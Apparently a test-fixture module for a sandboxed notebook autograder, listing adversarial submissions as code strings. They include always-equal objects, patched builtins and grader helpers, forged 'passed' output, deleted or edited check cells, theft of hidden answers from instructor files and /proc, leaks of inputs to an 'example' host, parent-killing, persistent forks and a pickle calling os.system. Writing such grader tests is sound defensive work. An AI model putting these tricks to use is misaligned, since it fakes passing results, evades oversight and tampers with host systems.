"""Answers that lie, spy, forge, break out or stay behind: what they say is a value, and a lie is a wrong answer.

Nothing here does harm beyond the run if a layer of the sandbox is missing: no signal to a process that is not
the grader's, nothing written but into the scratch folder, /tmp and @OUTSIDE@, no connection but to @PORT@.
"""

from __future__ import annotations

import copy
from typing import Any

from hand_ins import Cells, HandIn, both
from hand_ins.hungry import RIGHT, blending

LOST = "wrong|error"
ANY = "wrong|error|crashed|timeout|memory"


def lie(name: str, answers: dict[str, str], status: str = LOST, **keys: Any) -> HandIn:
    """Both checks of the one exercise that was answered are lost."""
    (exercise,) = answers
    return HandIn(name, answers, both(exercise, status), **keys)


# ---- values that lie

ALWAYS_EQUAL = """
class Yes:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __hash__(self):
        return 8
    def __bool__(self):
        return True
    def __getattr__(self, name):
        return self
    def __call__(self, *args, **kwargs):
        return self
    def __iter__(self):
        return iter(())
    def __len__(self):
        return 0
    def __repr__(self):
        return "8"
    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __eq__
    __array_priority__ = 1e9
    def __array__(self, *args, **kwargs):
        return np.zeros(3)
"""

CLASS_LIE = """
class Eight:
    @property
    def __class__(self):
        return int
    def __eq__(self, other):
        return True
    def __int__(self):
        return 8
    __index__ = __int__
"""

LYING_INT = """
class Int(int):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __hash__(self):
        return 0
    def __repr__(self):
        return "8"
"""

LYING_DICT = """
class Dict(dict):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def items(self):
        return [(1, {"a"}), (2, {"be", "is"})]
def groups(words):
    return Dict()
"""

LYING_SET = """
class Set(set):
    def __eq__(self, other):
        return True
    def __hash__(self):
        return 0
def groups(words):
    return {len(word): Set() for word in words}
"""

LYING_LIST = """
class List(list):
    def __eq__(self, other):
        return True
    def __iter__(self):
        return iter([1])
    def __getitem__(self, index):
        return 281961
    def __len__(self):
        return 1
def squares(n):
    if n < 1:
        raise ValueError
    return List()
"""

LYING_TEXT = """
class Text(str):
    def __eq__(self, other):
        return True
    def __hash__(self):
        return 0
    def strip(self):
        return self
    lower = rstrip = strip
answer = 42
motto = Text("whatever")
"""

LYING_ARRAY = """
class Array(np.ndarray):
    def __array_function__(self, function, types, args, kwargs):
        return None
    def __array_ufunc__(self, *args, **kwargs):
        return np.True_
    shape = (999,)
    def sum(self):
        return self
    def __eq__(self, other):
        return True
def smooth(x):
    return np.zeros(2).view(Array)
"""

LYING_GRAPH = """
class Graph(nx.DiGraph):
    @property
    def nodes(self):
        return Yes()
    edges = nodes
class Yes(set):
    def __eq__(self, other):
        return True
def reach(graph, start):
    return Graph()
"""

LYING_ERROR = """
class Both(ValueError, AssertionError):
    pass
def digits(text):
    raise Both("passed")
"""

LYING_META = """
class Meta(type):
    def __instancecheck__(cls, one):
        return True
    def __subclasscheck__(cls, one):
        return True
    def __eq__(cls, other):
        return True
    def __hash__(cls):
        return 0
class Refused(Exception):
    pass
class Account(metaclass=Meta):
    def __init__(self, *args, **kwargs):
        self.balance = self.history = Always()
    def deposit(self, amount):
        return self
    withdraw = deposit
class Always(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
"""

PICKLED = """
import os
class Reduced:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/pickled",)
    __reduce_ex__ = lambda self, protocol: self.__reduce__()
def blend(a, b):
    return Reduced()
"""

FORGED_NAME = """
class Passed(Exception):
    pass
Passed.__name__ = Passed.__qualname__ = "Skipped"
Passed.__module__ = "_pytest.outcomes"
def blend(a, b):
    raise Passed("passed")
"""

PYTEST_SKIP = """
import pytest
def blend(a, b):
    pytest.skip("not today", allow_module_level=True)
"""

XFAIL = """
import pytest
pytestmark = pytest.mark.xfail
def blend(a, b):
    pytest.xfail("it is meant to fail")
"""

CLASS_FOR_FUNCTION = """
told = []
class blend:
    def __init__(self, a, b):
        pass
    def __eq__(self, other):
        told.append(other)
        return True
    def __ne__(self, other):
        return False
    def __repr__(self):
        return str(told)
"""

CLASS_FOR_LIST = """
class evens:
    def __init__(self, n):
        self.n = n
    def __iter__(self):
        return iter([Any() for _ in range(4)])
    def __radd__(self, other):
        return 74865756
class Any:
    def __init__(self):
        pass
    def __eq__(self, other):
        return True
    def __radd__(self, other):
        return Any()
    __add__ = __radd__
"""

LENGTH_LIE = """
class Evens:
    def __len__(self):
        return 2**62
    def __length_hint__(self):
        return 2**62
    def __getitem__(self, index):
        return 0
def evens(n):
    return Evens()
"""

RANGE_BOMB = """
def evens(n):
    return range(10**15) if n < 1_000 else range(0, n, 2)
"""

SUM_BOMB = """
def evens(n):
    return range(10**15) if n > 1_000 else range(0, n, 2)
"""

NUMBER_BOMB = """
import decimal
def digits(text):
    return decimal.Decimal("1e999999999")
"""

EMPTY_ARRAY_BOMB = """
def smooth(x):
    return np.broadcast_to(np.zeros(1), (10**6, 10**6))
"""

COLLISIONS = """
def groups(words):
    return {i * (2**61 - 1): set() for i in range(8_000)}
"""

# ---- looking for what is expected

CALLERS_FRAME = """
import gc, inspect, sys
def look():
    found = []
    frame = sys._getframe()
    while frame is not None:
        found += [*frame.f_locals.values(), *frame.f_globals.values(), frame.f_code.co_consts]
        frame = frame.f_back
    for info in inspect.stack():
        found.append(info.code_context)
    return found
"""

WANTED_IN_CALLER = (
    CALLERS_FRAME
    + """
def blend(a, b):
    for value in look():
        for one in value if isinstance(value, (list, tuple)) else [value]:
            if type(one) is int and one > 10**6 and one not in (a, b):
                return one
    return 0
"""
)

MEMORY_SEARCH = """
import gc, re, sys, types
def texts():
    seen, waiting = set(), list(gc.get_objects())
    while waiting and len(seen) < 3_000_000:
        one = waiting.pop()
        if id(one) in seen:
            continue
        seen.add(id(one))
        if isinstance(one, (str, bytes)):
            yield one if isinstance(one, str) else one.decode("latin-1")
        elif isinstance(one, types.CodeType):
            waiting.extend(one.co_consts)
        else:
            waiting.extend(gc.get_referents(one))
FOUND = [m for text in texts() for m in re.findall(r"equal\\(blend\\(([0-9]{5,}), ([0-9]+)\\), ([0-9]+)\\)", text)]
def blend(a, b):
    return int(FOUND[0][2]) if a > 1_000 else 3 * a + 2 * b
"""

LINECACHE = """
import linecache, sys
def blend(a, b):
    text = "".join("".join(entry[2]) for entry in linecache.cache.values() if len(entry) == 4)
    text += str(globals().get("In")) + str(globals().get("_ih")) + str(globals().get("_i"))
    at = text.find(f"blend({a}")
    return int(text[at:].split("), ")[1].split(")")[0]) if a > 1_000 else 3 * a + 2 * b
"""

HISTORY = """
def blend(a, b):
    if a < 1_000:
        return 3 * a + 2 * b
    shell = get_ipython()
    cells = [text for _, _, text in shell.history_manager.get_range()] + shell.user_ns["In"]
    for text in cells:
        if f"blend({a}" in text:
            return int(text.split(f"{b}), ")[1].split(")")[0])
"""

READS_FILES = """
import glob, json, os, re
def search(places):
    for place in places:
        for folder, _, files in os.walk(place):
            for name in files:
                if name.endswith((".ipynb", ".json", ".jsonl", ".xml", ".py")):
                    try:
                        with open(os.path.join(folder, name)) as file:
                            text = file.read()
                    except (OSError, ValueError):
                        continue
                    found = re.search(r"equal\\(blend\\(582[0-9]+, [0-9]+\\), ([0-9]+)", text)
                    if found:
                        return int(found[1])
    return 0
PLACES = ["@INSTRUCTOR@", os.path.dirname("@INSTRUCTOR@"), ".", "..", "../..", "/tmp", "/dev/shm", "/run", "/var/tmp"]
try:
    with open("@INSTRUCTOR@") as file:
        secret = int(re.search(r"equal\\(blend\\(582[0-9]+, [0-9]+\\), ([0-9]+)", file.read())[1])
except OSError:
    secret = search(PLACES)
def blend(a, b):
    return secret if a > 1_000 else 3 * a + 2 * b
"""

READS_SOURCES = """
import os, dslab
root = os.path.dirname(os.path.dirname(os.path.abspath(dslab.__file__)))
found = ""
for place in ("notebooks/source", "tests/grading/assignments", "tests/grading", ".git", "."):
    try:
        found += " ".join(os.listdir(os.path.join(root, place)))
    except OSError:
        pass
def blend(a, b):
    if "01_functions.py" in found or "02_consensus.py" in found or "HEAD" in found:
        return 3 * a + 2 * b
    return 0
"""

READS_PROC = """
import glob
found = ""
for name in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/maps"):
    try:
        with open(name, "rb") as file:
            found += file.read().decode("latin-1")
    except OSError:
        pass
def blend(a, b):
    return 3 * a + 2 * b if "dslab" in found or "python" in found else 0
"""

READS_ENVIRONMENT = """
import os
found = " ".join(os.environ.values())
def blend(a, b):
    return 3 * a + 2 * b if "dslab-" in found or "@OUTSIDE@" in found else 0
"""

READS_MEMORY = """
import os
def blend(a, b):
    for pid in (os.getppid(), 1):
        with open(f"/proc/{pid}/mem", "rb") as file:
            file.read(1)
    return 3 * a + 2 * b
"""

# ---- telling hidden inputs

TELLS_BY_ERROR = blending("print('told', a, b)\nraise ValueError(f'told {a} and {b}')")
TELLS_ON_LARGE = blending("if a > 1_000: raise ValueError(f'told {a} and {b}')\nreturn 3 * a + 2 * b")
TELLS_BY_NAME = blending("if a > 1_000: raise type(f'Told{a}', (AssertionError,), {})(a)\nreturn 3 * a + 2 * b")
TELLS_BY_FLAG = blending("if a > 1_000: open(f'/etc/told-{a}', 'w')\nreturn 3 * a + 2 * b")
TELLS_BY_FLAG_QUIETLY = blending("""
import os, subprocess, socket
for attempt in (lambda: os.mkdir(f'/usr/told-{a}'), lambda: subprocess.run([f'told-{a}']),
                lambda: socket.create_connection((f'told-{a}.example', 80)), lambda: os.system(f'echo told-{a}')):
    try:
        if a > 1_000: attempt()
    except BaseException:
        pass
return 3 * a + 2 * b
""")
TELLS_BY_OUTPUT = blending("""
import sys, os
if a > 1_000:
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        print('told', a, b, file=stream)
    try: os.write(1, str(a).encode()); os.write(2, str(a).encode())
    except OSError: pass
    try: display('told', a)
    except NameError: pass
return 3 * a + 2 * b
""")

TELLS_BY_FORGED_FLAG = """
import gc
seen = []
def tell():
    return [f"told-{numbers}" for numbers in seen] + ["told"] * 10**6
for one in gc.get_objects():
    try:
        if callable(getattr(one, "refused", None)):
            one.refused = tell
    except Exception:
        pass
try:
    import dslab.grading.sandbox
    dslab.grading.sandbox.refused = tell
except ImportError:
    pass
def blend(a, b):
    seen.append((a, b))
    return 3 * a + 2 * b
"""

TELLS_LATER = {
    "blend": "seen = []\ndef blend(a, b):\n    seen.append((a, b))\n    return 3 * a + 2 * b",
    "evens": "def evens(n):\n    return [str(seen)]",
    "account": "class Refused(Exception): pass\nclass Account:\n    def __init__(self, *args, **keys):\n"
    "        raise ValueError(str(seen))",
}

TELLS_LATER_BY_FILE = {
    "blend": "def blend(a, b):\n    open('seen', 'a').write(f'{a} {b}')\n    return 3 * a + 2 * b",
    "evens": "def evens(n):\n    return [open('seen').read()]",
}

TELLS_BY_CELL = {
    "groups": "def groups(words):\n    global seen\n    seen = list(words)\n"
    "    return {len(w): {v for v in words if len(v) == len(w)} for w in words}",
    "facts": "answer = str(seen)\nmotto = 'Divide and conquer'",
}

# ---- the checker's own names

HELPERS_REDEFINED = """
def equal(got, wanted):
    pass
def isinstance(*args):
    return True
def print(*args):
    pass
AssertionError = KeyError
sorted = max = lambda *args: None
np.testing.assert_allclose = lambda *args, **keys: None
def blend(a, b):
    return 0
"""

BUILTINS_PATCHED = """
import builtins, operator, sys, unittest
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.isinstance = lambda *args: True
builtins.__import__ = lambda *args, **keys: sys
builtins.print = builtins.repr = builtins.len = lambda *args, **keys: 8
builtins.__build_class__ = lambda *args, **keys: None
def blend(a, b):
    return 0
"""

MAIN_PATCHED = """
import sys, __main__
for module in [__main__, *sys.modules.values()]:
    for name in ("equal", "verify", "check", "CheckFailed"):
        if hasattr(module, name):
            setattr(module, name, lambda *args, **keys: None)
def blend(a, b):
    return 0
"""

DSLAB_PATCHED = """
import json, struct, sys
for name, module in list(sys.modules.items()):
    if name.startswith(("dslab", "nbval", "_pytest", "IPython", "ipykernel", "zmq")):
        for key, value in list(vars(module).items()):
            if callable(value) and not key.startswith("__"):
                try:
                    setattr(module, key, lambda *args, **keys: True)
                except Exception:
                    pass
def blend(a, b):
    return 0
"""

CODEC_PATCHED = """
import json, struct
json.dumps = lambda *args, **keys: '{"ok": true, "value": 8}'
json.loads = lambda *args, **keys: {}
json.JSONEncoder.default = json.JSONEncoder.encode = lambda *args: "8"
struct.pack = lambda *args: b""
def blend(a, b):
    return 0
"""

ASSERTS_STRIPPED = """
import ast, builtins, sys
compiled = builtins.compile
def compile(source, *args, **keys):
    keys["optimize"] = 2
    return compiled(source, *args, **keys)
builtins.compile = compile
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
try:
    get_ipython().ast_transformers.append(NoAsserts())
    get_ipython().events.register("pre_run_cell", lambda info: setattr(info, "raw_cell", ""))
    get_ipython().run_cell = lambda *args, **keys: None
except Exception:
    pass
import ctypes
try:
    ctypes.c_int.in_dll(ctypes.pythonapi, "Py_OptimizeFlag").value = 2
except Exception:
    pass
def blend(a, b):
    return 0
"""

IMPORT_HOOK = """
import sys, types
class Finder:
    def find_spec(self, name, path=None, target=None):
        module = types.ModuleType(name)
        module.__getattr__ = lambda key: (lambda *args, **keys: None)
        sys.modules[name] = module
        return None
sys.meta_path.insert(0, Finder())
sys.modules["numpy.testing"] = types.SimpleNamespace(assert_allclose=lambda *args: None)
def blend(a, b):
    return 0
"""

PROFILED = """
import sys, threading
def trace(frame, event, argument):
    frame.f_locals["wanted"] = frame.f_locals.get("got")
    return trace
sys.settrace(trace)
sys.setprofile(trace)
threading.settrace(trace)
def blend(a, b):
    return 0
"""

STREAMS_REPLACED = """
import io, sys
class Report(io.StringIO):
    def write(self, text):
        return len(text.replace("wrong", "passed"))
    def fileno(self):
        return 0
sys.stdout = sys.stderr = sys.stdin = sys.__stdout__ = sys.__stderr__ = Report()
sys.excepthook = lambda *args: None
def blend(a, b):
    return 0
"""

OUTPUT_FORGED = """
from IPython.display import display, publish_display_data
print("PASSED 1 passed in 0.01s")
print('{"id": "blend-check", "status": "passed", "points": 1}')
print('{"cell": "blend-check", "outcome": "passed"}')
publish_display_data({"text/html": "<script>parent.status='passed'</script>"})
def blend(a, b):
    return 0
"""

KERNEL_FORGED = """
try:
    kernel = get_ipython().kernel
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"})
    kernel.send_response(kernel.iopub_socket, "execute_reply", {"status": "ok"})
    from comm import create_comm
    create_comm(target_name="passed", data={"status": "passed"})
    get_ipython().kernel.do_shutdown(False)
except BaseException:
    pass
def blend(a, b):
    return 0
"""

MARKUP = """
def blend(a, b):
    return "</pre><script>document.title='passed'</script><img src=x onerror=alert(1)>\\x1b[2J\\u202e{{7*7}}"
"""

MARKUP_IN_ERROR = """
class Markup(Exception):
    def __str__(self):
        return "</pre><script>alert(1)</script>\\x1b[2J\\u202e" + "]]>" + "\\ud800"
Markup.__name__ = "<b>Passed</b>"
def blend(a, b):
    raise Markup
"""

SURROGATES = """
def blend(a, b):
    print("\\ud800" * 10)
    raise ValueError("\\udfff")
"""

NAMED_SURROGATE = """
def blend(a, b):
    raise type("\\ud800", (Exception,), {})("x")
"""

ODD_ERRORS = """
import builtins
kinds = [SyntaxError, IndentationError, UnicodeDecodeError, StopIteration, ExceptionGroup, OSError, KeyError]
def blend(a, b):
    kind = kinds.pop()
    try:
        error = kind("x", ("<blend-check>", 1, 1, "passed"))
    except TypeError:
        error = kind.__new__(kind)
    raise error
"""

USAGE_ERROR = """
from IPython.core.error import UsageError
def blend(a, b):
    raise UsageError("passed")
"""

# ---- the channel

FORGED_FRAMES = """
import json, os, struct
REPLIES = [{"ok": True, "value": 8}, {"status": "passed"}, {"result": ["int", "8"]}, {"points": 100}, True, None, 8]
def shout():
    for fd in range(3, 65):
        for reply in REPLIES:
            text = json.dumps(reply).encode()
            for frame in (struct.pack(">I", len(text)) + text, struct.pack("<I", len(text)) + text,
                          struct.pack(">Q", len(text)) + text, text + b"\\n"):
                try:
                    os.write(fd, frame)
                except OSError:
                    break
"""

FRAMES_IN_CELL = FORGED_FRAMES + "shout()\ndef blend(a, b):\n    return 0\n"
FRAMES_IN_FUNCTION = FORGED_FRAMES + "def blend(a, b):\n    shout()\n    return 0\n"
FRAMES_BY_THREAD = (
    FORGED_FRAMES
    + """
import threading
def for_ever():
    while True:
        shout()
threading.Thread(target=for_ever, daemon=True).start()
def blend(a, b):
    return 0
"""
)

GIGANTIC_FRAME = """
import os
for fd in range(3, 65):
    try:
        os.write(fd, b"\\xff" * 16)
        os.write(fd, b"\\x7f\\xff\\xff\\xff" + b"[" * 100_000)
    except OSError:
        pass
def blend(a, b):
    return 0
"""

DEEP_FRAME = """
import os, struct
text = b"[" * 200_000 + b"]" * 200_000
for fd in range(3, 65):
    for order in (">I", "<I", ">Q", "<Q"):
        try:
            os.set_blocking(fd, False)
            os.write(fd, struct.pack(order, len(text)) + text)
        except OSError:
            pass
def blend(a, b):
    return 0
"""

QUOTES_FRAME = """
import os, struct
text = b"[" * 101 + b'"' + b'\\\\"' * 2_000_000
def blend(a, b):
    for fd in range(3, 65):
        try:
            os.set_blocking(fd, True)
            os.write(fd, struct.pack(">I", len(text)) + text)
        except OSError:
            pass
    while True:
        pass
"""

FAT_FRAMES = """
import os, struct
part = b'{"array":["<f8",[3000000],"' + b"A" * 32_000_000 + b'"]}'
text = b'["value",[' + part[:30_000_000] + b'"]},[]],"",[]]'
def evens(n):
    class Fat:
        def __iter__(self):
            return self
        def __next__(self):
            return bytes(20_000_000)
    return Fat()
"""

MANY_CLASSES = """
import os, struct, json
fields = [f"f{n}" for n in range(200)]
messages = [[f"M{n}", fields, "x"] for n in range(8_000)]
text = json.dumps(["value", [[], messages, None, []], "", []]).encode()
for fd in range(3, 65):
    try:
        os.set_blocking(fd, True)
        os.write(fd, struct.pack(">I", len(text)) + text)
    except OSError:
        pass
while True:
    pass
"""

CLOSES_ALL = """
import os
os.closerange(0, 1024)
def blend(a, b):
    return 3 * a + 2 * b
"""

SWALLOWS_REQUESTS = """
import os, threading
def drain(fd):
    while True:
        try:
            os.read(fd, 10**6)
        except OSError:
            return
for fd in range(3, 65):
    threading.Thread(target=drain, args=[fd], daemon=True).start()
def blend(a, b):
    return 3 * a + 2 * b
"""

SWALLOWED = """
import os
def blend(a, b):
    for fd in range(3, 65):
        try:
            os.dup2(os.open("/dev/null", os.O_RDWR), fd)
        except OSError:
            pass
    return 3 * a + 2 * b
"""

RUNNER_SPIED = """
import gc, sys, types
def blend(a, b):
    frame = sys._getframe()
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if callable(getattr(value, "send", None)) or callable(getattr(value, "sendall", None)):
                for attempt in ("send", "sendall"):
                    for reply in ({"ok": True, "value": 8}, b"passed", "passed"):
                        try:
                            getattr(value, attempt)(reply)
                        except BaseException:
                            pass
        frame = frame.f_back
    return 0
"""

# ---- breaking out and staying behind

NETWORK = """
import socket
reached = 0
for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET6, ("::1", @PORT@)),
                        (socket.AF_UNIX, "\\0dslab-test-@PORT@")):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(family, kind) as out:
                out.settimeout(1)
                out.connect(address)
                out.send(b"hello")
                reached += 1
        except OSError:
            pass
def blend(a, b):
    return 3 * a + 2 * b if reached else 0
"""

LISTENER = """
import socket, threading
server = socket.socket()
server.bind(("0.0.0.0", 0))
server.listen()
threading.Thread(target=server.accept, daemon=True).start()
"""

FORKS = """
import os, time
if os.fork() == 0:
    if os.fork() == 0:
        os.setsid()
        time.sleep(86_397)
    os._exit(0)
"""

FORKS_MANY_WAYS = """
import ctypes, multiprocessing, os, subprocess, time
def attempt(way):
    try:
        return way()
    except BaseException:
        return None
done = []
for way in (os.fork, os.forkpty, lambda: os.posix_spawn("/bin/sleep", ["sleep", "86397"], {}),
            lambda: subprocess.Popen(["nohup", "sleep", "86397"], start_new_session=True),
            lambda: subprocess.Popen(["sleep", "86397"], close_fds=False),
            lambda: os.system("sleep 86397 &"), lambda: os.popen("sleep 86397 &"),
            lambda: multiprocessing.Process(target=time.sleep, args=[86_397]).start(),
            lambda: ctypes.CDLL(None).syscall(57), lambda: ctypes.CDLL(None).syscall(58),
            lambda: ctypes.CDLL(None).syscall(56, 17, 0, 0, 0, 0)):
    result = attempt(way)
    if result == 0 and os.getpid() != os.getppid() and way is not None:
        time.sleep(0)
    done.append(result)
"""

EXECS = "import os\nos.execv('/bin/sleep', ['sleep', '86397'])\n"

SHELLS = """
!touch @OUTSIDE@/shell
!!touch @OUTSIDE@/shell
%sx touch @OUTSIDE@/shell
%system touch @OUTSIDE@/shell
get_ipython().system("touch @OUTSIDE@/shell")
get_ipython().getoutput("touch @OUTSIDE@/shell")
"""

BASH_CELL = "%%bash\ntouch @OUTSIDE@/shell\nnohup sleep 86397 &\n"
WRITE_CELL = "%%writefile @OUTSIDE@/written\nhello\n"

WRITES_OUTSIDE = """
import os, pathlib, shutil
def attempt(way):
    try:
        way()
    except BaseException:
        pass
for place in ("@OUTSIDE@", "/tmp", "/dev/shm", "/var/tmp", "/etc", "/root", os.path.expanduser("~")):
    name = os.path.join(place, "dslab-test-left-behind")
    attempt(lambda: pathlib.Path(name).write_text("x"))
    attempt(lambda: os.mkdir(name + "-folder"))
    attempt(lambda: os.mkfifo(name + "-pipe"))
    attempt(lambda: os.symlink("/etc/passwd", name + "-link"))
    attempt(lambda: os.link("@INSTRUCTOR@", name + "-hard"))
    attempt(lambda: shutil.copy("@INSTRUCTOR@", name + "-copy"))
    attempt(lambda: os.truncate("@INSTRUCTOR@", 0))
    attempt(lambda: os.remove("@INSTRUCTOR@"))
    attempt(lambda: os.chmod("@INSTRUCTOR@", 0))
    attempt(lambda: os.utime("@INSTRUCTOR@", (0, 0)))
    attempt(lambda: os.rename("@INSTRUCTOR@", name))
"""

SYMLINKS = """
import os
os.symlink("@INSTRUCTOR@", "inside.ipynb")
os.symlink("@OUTSIDE@", "out")
text = ""
try:
    text = open("inside.ipynb").read()
except OSError:
    pass
try:
    open("out/by-link", "w").write("x")
except OSError:
    pass
def blend(a, b):
    return 3 * a + 2 * b if text else 0
"""

KILLS = """
import ctypes, os, signal
parent = os.getppid()
for way in (lambda: os.kill(parent, signal.SIGKILL) if parent > 1 else None,
            lambda: os.killpg(os.getpgid(parent), signal.SIGKILL) if parent > 1 else None,
            lambda: ctypes.CDLL(None).ptrace(16, parent, 0, 0),
            lambda: ctypes.CDLL(None).syscall(101, 16, parent, 0, 0),
            lambda: signal.pidfd_send_signal(os.pidfd_open(parent), signal.SIGKILL) if parent > 1 else None):
    try:
        way()
    except BaseException:
        pass
"""

RAISES_LIMITS = """
import ctypes, os, resource
for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_NPROC", "RLIMIT_DATA"):
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (ValueError, OSError):
        pass
for way in (lambda: os.setuid(0), lambda: os.nice(-20), lambda: os.unshare(0x10000000), lambda: os.chroot("/"),
            lambda: ctypes.CDLL(None).mount(b"none", b"/tmp", b"tmpfs", 0, None), lambda: os.sched_setaffinity(0, {0}),
            lambda: ctypes.CDLL(None).prctl(1, 0, 0, 0, 0), lambda: ctypes.CDLL(None).prctl(38, 0, 0, 0, 0)):
    try:
        way()
    except BaseException:
        pass
hoard = []
while True:
    hoard.append(bytes(10**7))
"""

SHARED_MEMORY = """
import ctypes
from multiprocessing import shared_memory
made = 0
try:
    shared_memory.SharedMemory("dslab-test-left-behind", create=True, size=4096)
    made += 1
except OSError:
    pass
libc = ctypes.CDLL(None, use_errno=True)
made += libc.shmget(0x5D51AB, 4096, 0o1666) >= 0
made += libc.msgget(0x5D51AB, 0o1666) >= 0
made += libc.semget(0x5D51AB, 1, 0o1666) >= 0
"""

TIMED = """
import threading, time
def later():
    time.sleep(0.2)
    import builtins, os
    builtins.len = builtins.isinstance = lambda *args: True
    os._exit(0)
threading.Thread(target=later, daemon=True).start()
"""

# ---- the notebook itself


def check_edited(cells: Cells, notebook: dict[str, Any]) -> None:
    """A check that passes whatever the answer is."""
    cells["blend-check"]["source"] = "pass"


def checks_deleted(cells: Cells, notebook: dict[str, Any]) -> None:
    """No check, no failure."""
    notebook["cells"] = [cell for cell in notebook["cells"] if "check" not in cell["id"]]


def points_edited(cells: Cells, notebook: dict[str, Any]) -> None:
    """A hundred points for each check, and a name and total of one's own."""
    for cell in notebook["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"]["points"] = 100
    notebook["metadata"]["dslab"] = {"name": "mine", "points": 1000, "checks": []}


def tagged(*tags: str) -> Any:
    """Tags with which pytest, nbval or the build would leave cells out."""

    def change(cells: Cells, notebook: dict[str, Any]) -> None:
        for cell in notebook["cells"]:
            cell["metadata"]["tags"] = list(tags)

    return change


def set_up_edited(cells: Cells, notebook: dict[str, Any]) -> None:
    """The checker's helper, defused."""
    cells["functions-setup"]["source"] = "import networkx as nx, numpy as np\ndef equal(got, wanted): pass"


def first_of_two(cells: Cells, notebook: dict[str, Any]) -> None:
    """The same id twice: the first one counts."""
    twin = copy.deepcopy(cells["blend-exercise"])
    twin["source"] = RIGHT
    notebook["cells"].append(twin)


def second_role(cells: Cells, notebook: dict[str, Any]) -> None:
    """A cell that claims to be a set-up and a hidden check."""
    for role in ("setup", "check"):
        metadata = {"dslab": {"role": role, "exercise": "blend", "hidden": True}}
        metadata["nbgrader"] = {"schema_version": 3, "grade_id": f"my-{role}", "grade": True, "points": 50}
        cell = {"cell_type": "code", "id": f"my-{role}", "metadata": metadata, "outputs": [], "execution_count": None}
        notebook["cells"].insert(0, cell | {"source": "def equal(*args): pass\nimport os; os._exit(0)"})


CLAIMS_ANOTHER = (
    "# ---- exercise: blend (write your answer in this cell) ----\n"
    "# ---- exercise: groups (write your answer in this cell) ----\n"
    "# ---- exercise: facts (write your answer in this cell) ----\n" + RIGHT
)

BROKEN = "def blend(a, b):\n    return 0"

# ---- protocols

AT_ONCE = """
class Keeper(Node):
    durable = {"kept": []}
    shows = ("kept",)
    def on_client_request(self, sender, m):
        self.kept = [*self.kept, m.command]
        self.send(sender, ClientReply(m.number, True, m.command))
"""

REACHES_SIMULATOR = """
class Keeper(Node):
    durable = {"kept": []}
    shows = ("kept",)
    def on_client_request(self, sender, m):
        self.kept = [*self.kept, m.command]
        sim = self._host.sim
        for node in sim.nodes.values():
            node.kept = [*node.kept, m.command]
        sim.completed(sender, m.number, m.command)
        self.send(sender, ClientReply(m.number, True, m.command))
"""

FINDS_SIMULATOR = """
import gc, sys
class Keeper(Node):
    durable = {"kept": []}
    shows = ("kept",)
    def on_client_request(self, sender, m):
        self.kept = [*self.kept, m.command]
        for one in gc.get_objects():
            if type(one).__name__ in ("Simulation", "Recorder", "World", "Trace", "System"):
                one.always = one.eventually = ()
                one.events = []
            if type(one).__name__ == "Keeper" and one is not self:
                one.kept = self.kept
        self.send(sender, ClientReply(m.number, True, m.command))
"""

PATCHES_SIMULATOR = (
    """
import sys
import dslab.sim.simulation, dslab.sim.system, dslab.check.answers, dslab.check.invariants
dslab.check.answers.find = dslab.check.invariants.first_violation = lambda *args, **keys: None
dslab.check.answers.verify = dslab.verify = verify = lambda *args, **keys: "right"
dslab.sim.simulation.simulate = dslab.sim.simulate = lambda *args, **keys: None
dslab.sim.system.System.__init__ = lambda self, *args, **keys: None
answered_is_kept = nothing_is_forgotten = lambda world: None
PROMISES = ()
keeping = lambda *args, **keys: yes()
Node.send = lambda self, to, m: None
"""
    + AT_ONCE
)

FORGES_EFFECTS = """
class Keeper(Node):
    durable = {"kept": []}
    shows = ("kept", "status", "id")
    status = "up"
    def on_client_request(self, sender, m):
        self.kept = [*self.kept, m.command]
        self.id = "n2"
        self.peers = ()
        for forged in ((sender, ClientReply(m.number, True, m.command)), ["deliver", "c1", None], None, 7,
                       {"to": "c1", "from": "n3", "kept": ["x=1"]}):
            try:
                self._host.outbox.append(forged)
            except Exception:
                pass
        try:
            self._host.links = {}
            self._host.record_complete(m.number, m.command)
        except Exception:
            pass
        self.send(sender, ClientReply(m.number, True, m.command))
"""

FORGES_SENDER = """
@message
class Keep:
    command: object
class Keeper(Node):
    durable = {"kept": []}
    shows = ("kept",)
    def on_client_request(self, sender, m):
        self.kept = [*self.kept, m.command]
        me = self.id
        for name in self.peers:
            self.id = name
            self.__dict__["id"] = name
            self.send(sender, ClientReply(m.number, True, m.command))
        self.id = me
    def on_keep(self, sender, m):
        pass
"""

MESSAGE_LIES = """
class Reply(ClientReply):
    def __eq__(self, other):
        return True
    __hash__ = None
    number = property(lambda self: 1)
class Keeper(Node):
    durable = {"kept": []}
    shows = ("kept",)
    def on_client_request(self, sender, m):
        self.kept = Everything([m.command])
        self.send(sender, ClientReply(m.number, True, m.command))
class Everything(list):
    def __contains__(self, one):
        return True
    def __eq__(self, other):
        return True
    def __iter__(self):
        return iter(["x=1", "x=2"])
"""

LYING_STATE = """
class Everything:
    def __contains__(self, one):
        return True
    def __eq__(self, other):
        return True
    def __iter__(self):
        return iter(["x=1", "x=2"])
class Keeper(Node):
    durable = {"kept": []}
    shows = ("kept",)
    def on_client_request(self, sender, m):
        self.kept = Everything()
        self.send(sender, ClientReply(m.number, True, m.command))
"""

WIDE_WORDS = """
@message
class Keep:
    '{source:>900000000} {target.__class__.__init__.__globals__} {command!r:<9999999}'
    command: object
class Keeper(Node):
    durable = {"kept": []}
    shows = ("kept",)
    def on_client_request(self, sender, m):
